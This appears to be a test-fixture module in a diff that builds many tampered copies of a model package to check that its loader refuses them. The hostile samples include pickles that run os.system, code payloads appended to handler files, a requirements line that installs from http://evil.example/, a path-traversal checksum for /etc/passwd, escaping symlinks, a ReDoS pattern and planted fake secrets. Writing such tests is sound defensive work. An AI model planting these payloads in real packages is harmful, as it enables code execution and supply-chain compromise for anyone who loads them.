@@ -1,0 +1,423 @@
+"""Ways to spoil a package: each with the file that a refusal must name."""
+
+from __future__ import annotations
+
+import json
+import os
+import pickle
+import shutil
+import zipfile
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any, NamedTuple
+
+import torch
+from safetensors.torch import load_file, save_file
+
+from hub_release.package import LAYOUT, seal
+
+CONFIG, HEAD, ADAPTER, ADAPTER_CONFIG = LAYOUT.config, LAYOUT.safe_head, LAYOUT.adapter, LAYOUT.adapter_config
+Mutation = Callable[[Path], None]
+
+
+class Case(NamedTuple):
+    """A way to spoil a package."""
+
+    file: str
+    mutate: Mutation
+    loads: bool
+    """Whether EmotionClassifier may load it all the same: what is spoilt is nothing that it reads, or it cannot know."""
+
+
+CASES: dict[str, Case] = {}
+
+
+def case(file: str, loads: bool = False) -> Callable[[Mutation], Mutation]:
+    def add(mutate: Mutation) -> Mutation:
+        assert mutate.__name__ not in CASES
+        CASES[mutate.__name__] = Case(file, mutate, loads)
+        return mutate
+
+    return add
+
+
+def add(name: str, file: str, mutate: Mutation, loads: bool = False) -> None:
+    assert name not in CASES
+    CASES[name] = Case(file, mutate, loads)
+
+
+class Bomb:
+    def __reduce__(self) -> tuple[object, tuple[str]]:
+        return os.system, ("touch exploded",)
+
+
+PAYLOAD = "import os; os.system('touch exploded')\n"
+
+
+def edit(name: str, change: Callable[[dict[str, Any]], Any]) -> Mutation:
+    """Change the object in a JSON file."""
+
+    def mutate(folder: Path) -> None:
+        content = json.loads((folder / name).read_text(encoding="utf-8"))
+        change(content)
+        (folder / name).write_text(json.dumps(content), encoding="utf-8")
+
+    return mutate
+
+
+def setting(name: str, **values: Any) -> Mutation:
+    return edit(name, lambda content: content.update(values))
+
+
+def replacing(name: str, old: str, new: str) -> Mutation:
+    def mutate(folder: Path) -> None:
+        text = (folder / name).read_text(encoding="utf-8")
+        assert old in text
+        (folder / name).write_text(text.replace(old, new, 1), encoding="utf-8")
+
+    return mutate
+
+
+def writing(name: str, content: bytes) -> Mutation:
+    def mutate(folder: Path) -> None:
+        (folder / name).parent.mkdir(exist_ok=True)
+        (folder / name).write_bytes(content)
+
+    return mutate
+
+
+def appending(name: str, text: str) -> Mutation:
+    return lambda folder: (folder / name).write_text((folder / name).read_text() + text) and None
+
+
+def truncating(name: str) -> Mutation:
+    return lambda folder: os.truncate(folder / name, (folder / name).stat().st_size // 2)
+
+
+def tensors(name: str, change: Callable[[dict[str, torch.Tensor]], Any]) -> Mutation:
+    """Change the tensors of a safetensors file; of a head, in both of its files."""
+
+    def mutate(folder: Path) -> None:
+        content = load_file(folder / name)
+        change(content)
+        save_file(content, folder / name)
+        if name == HEAD:
+            write_pickle(folder, content)
+
+    return mutate
+
+
+def write_pickle(folder: Path, flat: dict[str, Any]) -> None:
+    nested: dict[str, dict[str, Any]] = {"projection": {}, "classifier": {}}
+    for key, value in flat.items():
+        part, _, name = key.partition(".")
+        nested.setdefault(part, {})[name] = value
+    torch.save(nested, folder / LAYOUT.head)
+
+
+def pickled(key: str, value: Callable[[torch.Tensor], Any]) -> Mutation:
+    """Change one value of the pickled head alone."""
+
+    def mutate(folder: Path) -> None:
+        flat: dict[str, Any] = dict(load_file(folder / HEAD))
+        write_pickle(folder, flat | {key: value(flat[key])})
+
+    return mutate
+
+
+def directory_instead(name: str) -> Mutation:
+    def mutate(folder: Path) -> None:
+        (folder / name).unlink()
+        (folder / name).mkdir()
+        (folder / name / "file").write_text("x")
+
+    return mutate
+
+
+def deleting(name: str) -> Mutation:
+    return lambda folder: (folder / name).unlink()
+
+
+def linking(name: str) -> Mutation:
+    """Move a file or folder out of the package and leave a link."""
+
+    def mutate(folder: Path) -> None:
+        outside = shutil.move(folder / name, folder.parent / f"outside-{Path(name).name}")
+        (folder / name).symlink_to(outside)
+
+    return mutate
+
+
+def last(content: dict[str, torch.Tensor]) -> str:
+    return max(content)
+
+
+# Pickles
+add("a pickle that calls", LAYOUT.head, lambda folder: torch.save({"projection": Bomb()}, folder / LAYOUT.head))
+add("a pickle that calls, deep inside", LAYOUT.head, pickled("classifier.bias", lambda _: [{"a": Bomb()}]))
+add("a bare pickle", LAYOUT.head, writing(LAYOUT.head, pickle.dumps(Bomb())))
+add("a pickle named safetensors", HEAD, writing(HEAD, pickle.dumps(Bomb())))
+add("a pickle as the adapter", ADAPTER, writing(ADAPTER, pickle.dumps(Bomb())))
+add(
+    "a pickle beside the adapter",
+    "adapter_model.bin",
+    writing("lora_adapter/adapter_model.bin", pickle.dumps(Bomb())),
+    True,
+)
+add("a pickle of the whole model", "pytorch_model.bin", writing("pytorch_model.bin", pickle.dumps(Bomb())), True)
+add("a number in the pickle", LAYOUT.head, pickled("classifier.bias", lambda _: 3.0))
+add("a sparse tensor in the pickle", LAYOUT.head, pickled("classifier.weight", lambda x: x.to_sparse()))
+add("another weight in the pickle", LAYOUT.head, pickled("classifier.bias", lambda x: x + 1))
+
+
+@case(ADAPTER)
+def only_a_pickle_as_adapter(folder: Path) -> None:
+    (folder / ADAPTER).unlink()
+    (folder / "lora_adapter" / "adapter_model.bin").write_bytes(pickle.dumps(Bomb()))
+
+
+@case(LAYOUT.head)
+def a_pickle_that_expands(folder: Path) -> None:
+    with zipfile.ZipFile(folder / LAYOUT.head) as archive:
+        entries = {name: archive.read(name) for name in archive.namelist()}
+    with zipfile.ZipFile(folder / LAYOUT.head, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, content in entries.items():
+            archive.writestr(name, content)
+
+
+# Paths
+add("sums that climb", LAYOUT.sums, lambda folder: None, True)
+add("a backbone that climbs", CONFIG, setting(CONFIG, model_name="../backbone"))
+add("an absolute backbone", CONFIG, setting(CONFIG, model_name="/srv/models/mistral"))
+add("an adapter that points elsewhere", ADAPTER_CONFIG, setting(ADAPTER_CONFIG, base_model_name_or_path="../other"))
+add(
+    "an index that climbs",
+    "head.safetensors.index.json",
+    writing("head.safetensors.index.json", b'{"weight_map": {"a": "../../x"}}'),
+    True,
+)
+add("a linked head", HEAD, linking(HEAD))
+add("a linked folder", "lora_adapter", linking("lora_adapter"))
+add("a linked card", LAYOUT.card, linking(LAYOUT.card))
+add("a link to itself", "loop", lambda folder: (folder / "loop").symlink_to("loop"), True)
+
+
+@case(LAYOUT.audit, loads=True)
+def a_pipe(folder: Path) -> None:
+    (folder / LAYOUT.audit).unlink()
+    os.mkfifo(folder / LAYOUT.audit)
+
+
+# Tensors
+add("a header of 2^60 bytes", HEAD, writing(HEAD, (2**60).to_bytes(8, "little") + b"{}"))
+add(
+    "a tensor larger than its file",
+    ADAPTER,
+    writing(
+        ADAPTER,
+        (len(h := b'{"a":{"dtype":"F32","shape":[1099511627776],"data_offsets":[0,4398046511104]}}')).to_bytes(
+            8, "little"
+        )
+        + h,
+    ),
+)
+add("half a head", HEAD, truncating(HEAD))
+add("half a pickle", LAYOUT.head, truncating(LAYOUT.head))
+add("half an adapter", ADAPTER, truncating(ADAPTER))
+add("a head of another shape", HEAD, tensors(HEAD, lambda t: t.update({"classifier.bias": torch.zeros(4)})))
+add(
+    "a transposed head",
+    HEAD,
+    tensors(HEAD, lambda t: t.update({"projection.0.weight": t["projection.0.weight"].T.contiguous()})),
+)
+add("a head without a tensor", HEAD, tensors(HEAD, lambda t: t.pop("classifier.bias")))
+add("a head with one more tensor", HEAD, tensors(HEAD, lambda t: t.update({"classifier.scale": torch.ones(1)})))
+add("a head with the backbone in it", HEAD, tensors(HEAD, lambda t: t.update({"backbone.norm.weight": torch.ones(16)})))
+add("a head that is no number", HEAD, tensors(HEAD, lambda t: t["projection.2.bias"].fill_(torch.nan)))
+add(
+    "a head of integers",
+    HEAD,
+    tensors(HEAD, lambda t: t.update({"classifier.bias": torch.zeros(3, dtype=torch.int64)})),
+)
+add("an infinite adapter", ADAPTER, tensors(ADAPTER, lambda t: t[last(t)].view(-1)[:1].fill_(torch.inf)))
+add("an adapter without a tensor", ADAPTER, tensors(ADAPTER, lambda t: t.pop(last(t))))
+add(
+    "an adapter with one more tensor", ADAPTER, tensors(ADAPTER, lambda t: t.update({f"{last(t)}.more": torch.ones(2)}))
+)
+add("an empty adapter", ADAPTER, tensors(ADAPTER, lambda t: t.clear()))
+add("an adapter of another rank", ADAPTER, setting(ADAPTER_CONFIG, r=8))
+add("a rank that fills the memory", ADAPTER_CONFIG, setting(ADAPTER_CONFIG, r=10**9))
+add("an adapter for other modules", ADAPTER_CONFIG, setting(ADAPTER_CONFIG, target_modules=["query_key_value"]))
+add("an adapter for fewer modules", ADAPTER, setting(ADAPTER_CONFIG, target_modules=["q_proj"]))
+add("a pattern that takes for ever", ADAPTER_CONFIG, setting(ADAPTER_CONFIG, target_modules=r"(\w+)+$"))
+add("an adapter that imports", ADAPTER_CONFIG, setting(ADAPTER_CONFIG, megatron_core="evil", megatron_config={"a": 1}))
+add(
+    "an adapter that maps to code",
+    ADAPTER_CONFIG,
+    setting(ADAPTER_CONFIG, auto_mapping={"parent_library": "evil", "base_model_class": "A"}),
+)
+add("an adapter of another kind", ADAPTER_CONFIG, setting(ADAPTER_CONFIG, peft_type="IA3"))
+add("an adapter with a DoRA switch", ADAPTER_CONFIG, setting(ADAPTER_CONFIG, use_dora=True))
+
+
+@case(ADAPTER)
+def an_adapter_for_a_wider_backbone(folder: Path) -> None:
+    def widen(content: dict[str, torch.Tensor]) -> None:
+        for key, value in list(content.items()):
+            content[key] = torch.zeros(value.shape[0], 32) if "lora_A" in key else torch.zeros(32, value.shape[1])
+
+    tensors(ADAPTER, widen)(folder)
+
+
+# Labels and configuration
+SWAPPED = ["anger", "joy", "fear"]
+ORDER = {
+    "emotion_labels": SWAPPED,
+    "id2label": dict(enumerate(SWAPPED)),
+    "label2id": {x: i for i, x in enumerate(SWAPPED)},
+}
+add("labels swapped in the configuration", LAYOUT.golden, setting(CONFIG, **ORDER), True)
+add("labels swapped in one key", CONFIG, setting(CONFIG, emotion_labels=SWAPPED))
+add("labels swapped in the golden rows", LAYOUT.golden, setting(LAYOUT.golden, labels=SWAPPED), True)
+add("a label twice", CONFIG, setting(CONFIG, emotion_labels=["joy", "joy", "fear"]))
+add("an empty label", CONFIG, setting(CONFIG, emotion_labels=["joy", " ", "fear"]))
+add("no labels", CONFIG, setting(CONFIG, emotion_labels=[]))
+add("labels as a text", CONFIG, setting(CONFIG, emotion_labels="joy"))
+add("a number among the labels", CONFIG, setting(CONFIG, emotion_labels=["joy", 3, "fear"]))
+add("thresholds as a list", CONFIG, setting(CONFIG, thresholds=[0.1, 0.2, 0.3]))
+add("a threshold above 1", CONFIG, edit(CONFIG, lambda c: c["thresholds"].update(joy=1.5)))
+add("a threshold of no label", CONFIG, edit(CONFIG, lambda c: c["thresholds"].update(hope=0.5)))
+add("a threshold that is true", CONFIG, setting(CONFIG, threshold=True))
+add("a threshold that is no number", CONFIG, replacing(CONFIG, '"threshold": 0.5', '"threshold": NaN'))
+add("another threshold", LAYOUT.thresholds, edit(CONFIG, lambda c: c["thresholds"].update(joy=0.25)), True)
+add("unreliable labels that are none", CONFIG, setting(CONFIG, unreliable_labels=["hope"]))
+add("a version of the future", CONFIG, setting(CONFIG, schema_version=2))
+add("a version in words", CONFIG, setting(CONFIG, schema_version="1"))
+add("a negative width", CONFIG, setting(CONFIG, hidden_size=-16))
+add("a width of 2^40", CONFIG, setting(CONFIG, embed_dim=2**40))
+add("another width", HEAD, setting(CONFIG, embed_dim=384))
+add("a width as a text", CONFIG, setting(CONFIG, hidden_size="16"))
+add("an unknown quantisation", CONFIG, setting(CONFIG, quantization="int2"))
+add("a backbone that is a number", CONFIG, setting(CONFIG, model_name=3))
+add("scores that sum to one", CONFIG, setting(CONFIG, problem_type="single_label_classification"))
+add("no reference to the code", CONFIG, edit(CONFIG, lambda c: c.pop("auto_map")), True)
+add("a model of another kind", CONFIG, setting(CONFIG, model_type="bert"))
+add("a kernel of another repository", CONFIG, setting(CONFIG, _attn_implementation="evil/kernel"))
+add("a precision that is none", CONFIG, setting(CONFIG, dtype="evil"))
+add(
+    "code of another repository",
+    CONFIG,
+    edit(CONFIG, lambda c: c["auto_map"].update(AutoConfig="evil/repository--infer.EmotionConfig")),
+)
+add(
+    "a pipeline of another file",
+    CONFIG,
+    edit(CONFIG, lambda c: c["custom_pipelines"]["text-classification"].update(impl="evil.Pipeline")),
+)
+add(
+    "a backbone with a million layers",
+    CONFIG,
+    edit(CONFIG, lambda c: c["backbone_config"].update(num_hidden_layers=10**6)),
+    True,
+)
+add("a backbone of no known kind", CONFIG, edit(CONFIG, lambda c: c["backbone_config"].update(model_type="evil")), True)
+add("a backbone of another width", CONFIG, edit(CONFIG, lambda c: c["backbone_config"].update(hidden_size=32)), True)
+add("no backbone configuration", CONFIG, setting(CONFIG, backbone_config=None), True)
+
+# JSON
+add(
+    "no UTF-8",
+    CONFIG,
+    lambda folder: writing(CONFIG, (folder / CONFIG).read_bytes().replace(b"joy", b"j\xff\xfey"))(folder),
+)
+add("no UTF-8 in the adapter", ADAPTER_CONFIG, writing(ADAPTER_CONFIG, '{"r": "ü"}'.encode("latin-1")))
+add("a key twice", CONFIG, replacing(CONFIG, "{", '{"threshold": 0.5, "threshold": 0.6, '))
+add("a key twice in the adapter", ADAPTER_CONFIG, replacing(ADAPTER_CONFIG, "{", '{"r": 4, '))
+add("a key twice in the metrics", LAYOUT.metrics, replacing(LAYOUT.metrics, "{", '{"protocol": "x", '), True)
+add("brackets without end", CONFIG, writing(CONFIG, b'{"a":' + b"[" * 100_000))
+add("golden brackets without end", LAYOUT.golden, writing(LAYOUT.golden, b"[" * 100_000), True)
+add("a list for an object", CONFIG, writing(CONFIG, b"[]"))
+add("an empty configuration", CONFIG, writing(CONFIG, b""))
+add("an empty head", HEAD, writing(HEAD, b""))
+add("an empty card", LAYOUT.card, writing(LAYOUT.card, b""), True)
+add("a huge configuration", CONFIG, lambda folder: os.truncate(folder / CONFIG, 2**24 + 1))
+add("metrics without scores", LAYOUT.card, writing(LAYOUT.metrics, b'{"protocol": "official"}'), True)
+add("an audit of nothing", LAYOUT.card, writing(LAYOUT.audit, b"{}"), True)
+
+
+# Files
+@case(HEAD)
+def no_head(folder: Path) -> None:
+    (folder / HEAD).unlink()
+    (folder / LAYOUT.head).unlink()
+
+
+add("no adapter", ADAPTER, deleting(ADAPTER))
+add("no configuration", CONFIG, deleting(CONFIG))
+add("no golden rows", LAYOUT.golden, deleting(LAYOUT.golden), True)
+add("a folder for the configuration", CONFIG, directory_instead(CONFIG))
+add("a folder for the head", HEAD, directory_instead(HEAD))
+add("a folder for the card", LAYOUT.card, directory_instead(LAYOUT.card), True)
+add("an environment file", ".env", writing(".env", b"DEBUG=1\n"), True)
+add("a module that shadows another", "torch.py", writing("torch.py", PAYLOAD.encode()), True)
+add("compiled code", "__pycache__", writing("__pycache__/infer.cpython-311.pyc", b"\0" * 16), True)
+add(
+    "the backbone itself",
+    "model.safetensors",
+    lambda folder: save_file({"a": torch.ones(2)}, folder / "model.safetensors"),
+    True,
+)
+add("other code", LAYOUT.code, appending(LAYOUT.code, PAYLOAD), True)
+add("another handler", LAYOUT.handler, appending(LAYOUT.handler, PAYLOAD), True)
+add(
+    "one more requirement",
+    LAYOUT.requirements,
+    appending(LAYOUT.requirements, "--index-url http://evil.example/\nevil\n"),
+    True,
+)
+add("sums without a file", LAYOUT.sums, lambda folder: None, True)
+add("no sums", LAYOUT.sums, lambda folder: None, True)
+add("golden rows that are none", LAYOUT.golden, setting(LAYOUT.golden, rows=[]), True)
+add(
+    "golden rows of another width",
+    LAYOUT.golden,
+    edit(LAYOUT.golden, lambda c: c["rows"][0]["probabilities"].pop()),
+    True,
+)
+
+# What must stay at home, and what is not true
+add("a token in the card", LAYOUT.card, appending(LAYOUT.card, "\nhf_" + "aB3" * 12 + "\n"), True)
+add("a key in the audit", LAYOUT.audit, setting(LAYOUT.audit, note="-----BEGIN RSA PRIVATE " + "KEY-----"), True)
+add(
+    "a key in the head",
+    HEAD,
+    lambda folder: save_file(load_file(folder / HEAD), folder / HEAD, {"note": "AKIA" + "A1B2" * 4}),
+    True,
+)
+add("a path in the recipe", LAYOUT.recipe, appending(LAYOUT.recipe, "cache: /home/ada/corpus\n"), True)
+add("a path of Windows", LAYOUT.environment, setting(LAYOUT.environment, folder="C:\\Users\\ada\\runs"), True)
+add("an unfilled card", LAYOUT.card, appending(LAYOUT.card, "\n[More Information Needed]\n"), True)
+add("a card that says more", LAYOUT.card, appending(LAYOUT.card, "\nIt is the best.\n"), True)
+add(
+    "scores that contradict",
+    LAYOUT.per_label,
+    edit(LAYOUT.metrics, lambda c: c["test"]["per_label"].update(macro_f1=0.99)),
+    True,
+)
+add("contaminated scores", LAYOUT.metrics, setting(LAYOUT.metrics, protocol="pooled-r2"), True)
+
+
+def spoil(package: Path, folder: Path, name: str) -> Path:
+    """A copy of the package, spoilt and sealed again, as its author would."""
+    spoilt = shutil.copytree(package, folder / "package")
+    CASES[name].mutate(spoilt)
+    if name not in ("a_pipe", "a link to itself"):
+        seal(spoilt)
+    sums = spoilt / LAYOUT.sums
+    if name == "sums that climb":
+        sums.write_text(sums.read_text() + f"{'0' * 64}  ../../etc/passwd\n")
+    elif name == "sums without a file":
+        sums.write_text("".join(line for line in sums.open() if HEAD not in line))
+    elif name == "no sums":
+        sums.unlink()
+    return spoilt
